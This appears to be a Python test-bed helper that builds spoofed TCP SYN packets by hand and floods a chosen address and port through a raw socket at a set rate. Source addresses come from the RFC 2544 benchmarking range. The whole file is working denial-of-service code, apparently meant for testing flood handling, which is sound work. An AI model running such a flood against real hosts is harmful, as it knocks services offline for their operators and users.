"""Send a flood of spoofed TCP SYNs at a steady rate.

    python syn_flood.py DST PORT COUNT RATE [SEED]

Run inside a host's namespace (``tb.popen(host, [sys.executable, "-I", this, ...])``).
Each SYN comes from a random address in 198.19.0.0/16 (RFC 2544's benchmarking
range, which the test beds route nowhere, so nothing answers) and a random
port, and is sent twice (each batch of 50 again right after it), as a stack
retransmits: COUNT distinct spoofed flows, RATE flows per second, through a raw socket
(IP_HDRINCL: the kernel sends the header as written). Prints one JSON line
when done: ``{"flows": COUNT, "seconds": 4.01}``. Standard library only.
"""
from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

BATCH = 50          # flows sent between two looks at the clock


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(rng: random.Random, daddr: bytes, dport: int) -> bytes:
    saddr = bytes([198, 19, rng.randrange(256), rng.randrange(1, 255)])
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), dport, rng.getrandbits(32), 0, 5 << 4, 0x02,
                      64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0, saddr, daddr)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main(argv: list[str]) -> int:
    dst, port, count, rate = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    rng = random.Random(int(argv[4]) if len(argv) > 4 else 1)
    daddr = socket.inet_aton(dst)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    started = time.monotonic()
    for first in range(0, count, BATCH):
        batch = [syn(rng, daddr, port) for _ in range(min(BATCH, count - first))]
        for packet in batch:
            sock.sendto(packet, (dst, 0))
        for packet in batch:
            sock.sendto(packet, (dst, 0))
        ahead = started + (first + len(batch)) / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"flows": count, "seconds": round(time.monotonic() - started, 2)}), flush=True)
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
